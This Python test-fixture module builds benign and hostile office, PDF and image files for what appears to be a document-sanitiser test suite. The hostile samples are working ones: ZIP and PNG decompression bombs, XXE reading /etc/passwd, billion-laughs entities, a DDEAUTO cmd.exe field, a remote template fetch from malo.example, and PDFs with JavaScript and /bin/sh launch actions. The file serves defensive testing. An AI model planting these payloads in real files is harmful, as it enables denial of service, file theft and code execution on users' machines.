"""Honest and hostile files, made anew for each test; none is kept in the repository."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from PIL import Image, PngImagePlugin

SECRET = "Persona Apellido Apellido"
COORDINATES = "19.4326,-99.1332"
SCRIPT = "app.alert"

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_PARAGRAPH = "<w:p><w:r><w:t>Minuta de la sesión</w:t></w:r></w:p>"
_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_CORE = "http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
_KIND = "application/vnd.openxmlformats-officedocument"
_DUBLIN = "http://purl.org/dc/elements/1.1/"


def packed(parts: Mapping[str, bytes | str], *, stored: tuple[str, ...] = ("mimetype",)) -> bytes:
    """Return a ZIP of the parts in their order."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            made.writestr(zipfile.ZipInfo(name), content, compress_type=kind)
    return file.getvalue()


def docx(*, body: str = _PARAGRAPH, **changes: bytes | str) -> bytes:
    """Return a small DOCX; changes add or replace parts, "__" stands for "/" and "_dot_" for "."."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": _types("wordprocessingml.document.main", "word/document.xml"),
        "_rels/.rels": _links(officeDocument="word/document.xml", core="docProps/core.xml"),
        "word/document.xml": f"<w:document {_W}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": _links(image="media/image1.jpeg"),
        "docProps/core.xml": (
            f'<cp:coreProperties xmlns:cp="{_CORE}" xmlns:dc="{_DUBLIN}">'
            f"<dc:creator>{SECRET}</dc:creator></cp:coreProperties>"
        ),
        "word/media/image1.jpeg": jpeg_with_metadata(),
    }
    parts.update({key.replace("__", "/").replace("_dot_", "."): part for key, part in changes.items()})
    return packed(parts)


def _types(main: str, name: str) -> str:
    kinds = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "jpeg": "image/jpeg"}
    defaults = "".join(f'<Default Extension="{end}" ContentType="{kind}"/>' for end, kind in kinds.items())
    parts = {name: main, "xl/worksheets/sheet1.xml": "spreadsheetml.worksheet"}
    overrides = "".join(
        f'<Override PartName="/{part}" ContentType="{_KIND}.{kind}+xml"/>' for part, kind in parts.items()
    )
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    return f'<Types xmlns="{space}">{defaults}{overrides}</Types>'


def _links(**targets: str) -> str:
    kinds = {"core": f"{_RELATIONSHIPS}/metadata/core-properties"}
    lines = "".join(
        f'<Relationship Id="{word}" Type="{kinds.get(word, f"{_OFFICE}/{word}")}" Target="{target}"/>'
        for word, target in targets.items()
    )
    return f'<Relationships xmlns="{_RELATIONSHIPS}">{lines}</Relationships>'


def docx_with(parts: Mapping[str, bytes | str]) -> bytes:
    """Return the same with parts of any name."""
    return docx(**dict(parts))


def xlsx(*, formula: str = "SUM(A1:A3)") -> bytes:
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return packed(
        {
            "[Content_Types].xml": _types("spreadsheetml.sheet.main", "xl/workbook.xml"),
            "_rels/.rels": _links(officeDocument="xl/workbook.xml"),
            "xl/workbook.xml": f"<workbook {space}/>",
            "xl/_rels/workbook.xml.rels": _links(worksheet="worksheets/sheet1.xml"),
            "xl/worksheets/sheet1.xml": f"<worksheet {space}><c><f>{formula}</f><v>6</v></c></worksheet>",
        }
    )


def odt(*, mimetype: str = "application/vnd.oasis.opendocument.text", content: str = "") -> bytes:
    space = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    return packed(
        {
            "mimetype": mimetype,
            "content.xml": f"<office:document-content {space}>{content}</office:document-content>",
            "meta.xml": f"<office:document-meta {space}>{SECRET}</office:document-meta>",
            "META-INF/manifest.xml": "<manifest/>",
        }
    )


def odt_of_libreoffice() -> bytes:
    """Return an ODT with the empty parts that LibreOffice leaves."""
    return packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": "<document-content/>",
            "layout-cache": b"\x01\x02",
            "Configurations2/accelerator/current.xml": b"",
            "Configurations2/images/Bitmaps/": b"",
            "Thumbnails/thumbnail.png": png_with_metadata(),
        }
    )


def ods(*, formula: str = "of:=SUM([.A1:.A3])") -> bytes:
    table = 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    cell = f'<table:table-cell {table} table:formula="{formula}"/>'
    return odt(mimetype="application/vnd.oasis.opendocument.spreadsheet", content=cell)


def picture(format: str = "PNG", size: tuple[int, int] = (40, 20), **options: object) -> bytes:  # noqa: A002
    file = io.BytesIO()
    Image.new("RGB", size, (120, 30, 60)).save(file, format, **options)
    return file.getvalue()


def jpeg_with_metadata() -> bytes:
    exif = Image.Exif()
    exif[0x013B] = SECRET  # artist
    exif[0x010E] = COORDINATES
    exif[0x0112] = 6  # turned to the right
    return picture("JPEG", exif=exif, comment=SECRET.encode())


def png_with_metadata() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Author", SECRET)
    return picture("PNG", pnginfo=told)


def webp_with_metadata() -> bytes:
    exif = Image.Exif()
    exif[0x013B] = SECRET
    return picture("WEBP", exif=exif)


def animated_webp() -> bytes:
    file = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), (shade, 0, 0)) for shade in (0, 100, 200)]
    frames[0].save(file, "WEBP", save_all=True, append_images=frames[1:])
    return file.getvalue()


def huge_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """Return a PNG of few bytes that would fill gigabytes of memory."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * ((width // 8 + 1) * height), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def truncated_jpeg() -> bytes:
    return picture("JPEG", (800, 600))[:2000]


def jpeg_with_script_behind() -> bytes:
    return picture("JPEG") + b"<script>alert(1)</script>"


def pdf(
    change: Callable[[pikepdf.Pdf], None] = lambda _document: None, pages: int = 1, **save: object
) -> bytes:
    file = io.BytesIO()
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(200, 200))
    document.docinfo["/Author"] = SECRET
    change(document)
    document.save(file, **save)
    return file.getvalue()


def acting_pdf() -> bytes:
    """Return a PDF with every way of acting and hiding that we know."""
    return pdf(_make_it_act)


def _make_it_act(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"{SCRIPT}('1')")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="/bin/sh")
    root = document.Root
    root.OpenAction = script
    root.AA = pikepdf.Dictionary(WC=script)
    root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", script])))
    root.Metadata = pikepdf.Stream(document, f"<x>{SECRET}</x>".encode())
    root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(document, SCRIPT.encode()))
    document.attachments["oculto.exe"] = b"MZ hidden program"
    page = document.pages[0].obj
    page.AA = pikepdf.Dictionary(O=script)
    page.Annots = pikepdf.Array(
        [
            _note(document, A=launch),
            _note(document, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:x", Next=script)),
            _note(document, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://ejemplo.org/acta")),
            _note(document, kind="/FileAttachment", FS=pikepdf.Dictionary(F="a.exe")),
        ]
    )
    image = pikepdf.Stream(document, jpeg_with_metadata())
    image.Type, image.Subtype, image.Filter = pikepdf.Name.XObject, pikepdf.Name.Image, pikepdf.Name.DCTDecode
    image.Width, image.Height = 40, 20
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=document.make_indirect(image)))


def _note(document: pikepdf.Pdf, kind: str = "/Link", **facts: object) -> pikepdf.Object:
    return document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(kind), Rect=pikepdf.Array([0, 0, 9, 9]), **facts
        )
    )


def locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="dueña", user="clave", R=6))


def pdf_that_is_a_zip_too() -> bytes:
    return pdf() + packed({"programa.js": "alert(1)"}) + b"\n%%EOF\n"


def pdf_with_a_circle_of_pages() -> bytes:
    objects = [
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n",
        b"2 0 obj\n<</Type/Pages/Kids[2 0 R]/Count 1>>\nendobj\n",
    ]
    body = b"%PDF-1.4\n" + b"".join(objects)
    return body + b"trailer\n<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"


def deep_pdf() -> bytes:
    """Return a PDF with arrays within arrays, beyond any reader's stack."""
    depth = 3000
    body = (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + b"[" * depth + b"]" * depth + b">>\nendobj\n"
    )
    pages = b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
    page = b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    return body + pages + page + b"trailer\n<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF\n"


def zip_bomb() -> bytes:
    """Return a DOCX of some 100 KB that unpacks to 100 MB."""
    return docx_with({"word/media/image2.png": b"\x00" * 100_000_000})


def zip_of_many() -> bytes:
    return docx_with({f"word/media/image{number}.png": b"" for number in range(2, 3000)})


def zip_that_lies() -> bytes:
    """Return a DOCX whose directory declares one byte for 20 MB."""
    name = b"word/media/image2.png"
    content = bytearray(docx_with({name.decode(): b"\x00" * 20_000_000}))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = content.find(mark)
        while at >= 0:
            if name in content[at : at + 80]:
                content[at + offset : at + offset + 4] = struct.pack("<I", 1)
            at = content.find(mark, at + 1)
    return bytes(content)


def zip_with_shared_bytes() -> bytes:
    """Return a DOCX whose directory names the same bytes many times."""
    base = docx_with({"word/media/image2.png": b"\x00" * 2_000_000})
    end = base.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", base[end + 16 : end + 20])[0]
    directory = base[start:end]
    last = directory.rfind(b"PK\x01\x02")
    copies = b"".join(
        directory[last:].replace(b"image2.png", f"im{number:04}.png".encode()) for number in range(40)
    )
    count = base[:end].count(b"PK\x01\x02") + 40
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory + copies), start, 0)
    return base[:end] + copies + tail


def zip_with_a_link() -> bytes:
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a") as made:
        link = zipfile.ZipInfo("word/media/image9.png")
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return file.getvalue()


def zip_with_two_of_a_name() -> bytes:
    file = io.BytesIO(docx())
    with warnings.catch_warnings(), zipfile.ZipFile(file, "a") as made:
        warnings.simplefilter("ignore")
        made.writestr("word/document.xml", "<w/>")
    return file.getvalue()


def docx_with_entity() -> bytes:
    return docx_with(
        {
            "word/document.xml": (
                '<!DOCTYPE w [<!ENTITY file SYSTEM "file:///etc/passwd">]>'
                f"<w:document {_W}><w:t>&file;</w:t></w:document>"
            )
        }
    )


def docx_with_laughs() -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx_with({"word/document.xml": f'<!DOCTYPE w [<!ENTITY l0 "ja">{levels}]><w>&l9;</w>'})


def docx_with_entity_in_utf16() -> bytes:
    text = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w [<!ENTITY x "y">]><w>&x;</w>'
    return docx_with({"word/document.xml": text.encode("utf-16")})


def docx_with_split_field() -> bytes:
    runs = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:r>"
    return docx(body=f"<w:p>{runs}</w:p>")


def docx_with_template(kind: str = "attachedTemplate", target: str = "https://malo.example/t.dotm") -> bytes:
    link = f'<Relationship Id="r1" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return docx_with(
        {"word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONSHIPS}">{link}</Relationships>'}
    )


def docx_with_macro_type() -> bytes:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    part = f'<Override PartName="/word/document.xml" ContentType="{kind}"/>'
    return docx_with({"[Content_Types].xml": f"<Types>{part}</Types>"})
